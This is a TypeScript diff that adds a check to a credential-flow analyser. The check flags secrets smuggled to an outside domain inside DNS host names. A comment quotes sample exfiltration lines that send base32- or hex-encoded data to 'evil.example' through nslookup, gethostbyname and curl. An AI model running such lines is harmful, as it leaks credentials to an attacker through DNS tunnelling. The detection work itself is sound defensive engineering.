@@ -36,9 +36,33 @@ const API_SERVER =
   /^(?:kubernetes|kubernetes\.default|kubernetes\.default\.svc|kubernetes\.default\.svc\.cluster\.local|\$\{?kubernetes_service_host\}?)$/i;
 const VAULT_LOGIN = /\/v1\/auth\/[^?#]+\/login\b/;
 
+/** A host name whose leading labels are computed (`$(…)`, `$c`, code) under literal trailing labels. */
+const COMPUTED_UNDER_DOMAIN = /^(.*[^a-z0-9.-].*)\.((?:[a-z0-9-]+\.)+[a-z][a-z0-9-]+)$/i;
+/** Domains that never leave the cluster or the local network: the names a pod looks up for its peers. */
+const LOCAL_DOMAIN = /(?:^|\.)(?:svc|cluster\.local|local|localdomain|internal|lan|home\.arpa)$/i;
+
+/**
+ * The domain a credential is smuggled to inside a host name: `nslookup $(… | base32).evil.example`,
+ * `socket.gethostbyname(hex + ".evil.example")`, `curl http://$(…).evil.example/`. The resolver
+ * sends the whole name to the name server of that domain, so the content leaves even when the
+ * connection never happens (DNS tunnelling, T1048). A name that is only the value (`nslookup
+ * "$DB_HOST"` with the host from a Secret) or one under a cluster domain is a host looked up.
+ */
+export function queriedDomain(destination: string | undefined): string | undefined {
+  if (destination === undefined) return undefined;
+  // A looked-up name is taken whole: `${T:0:60}.x.example` has a colon that is not a port.
+  const host = destination.startsWith('dns://') ? destination.slice(6) : parseUrl(destination)?.host;
+  if (host === undefined) return undefined;
+  const match = COMPUTED_UNDER_DOMAIN.exec(host.replace(/\.$/, ''));
+  const domain = match?.[2];
+  if (domain === undefined || LOCAL_DOMAIN.test(domain)) return undefined;
+  return domain;
+}
+
 /** Where a `send` flow takes the credential: to its audience, elsewhere, or a place not known before run time. */
 export function sendVerdict({ flow, origin }: CredentialFlow): SendVerdict {
   if (flow.destination === undefined) return 'unknown';
+  if (queriedDomain(flow.destination) !== undefined) return 'elsewhere';
   const url = parseUrl(flow.destination);
   if (url === undefined) return 'unknown';
   if (origin.credential === 'service-account-token') {
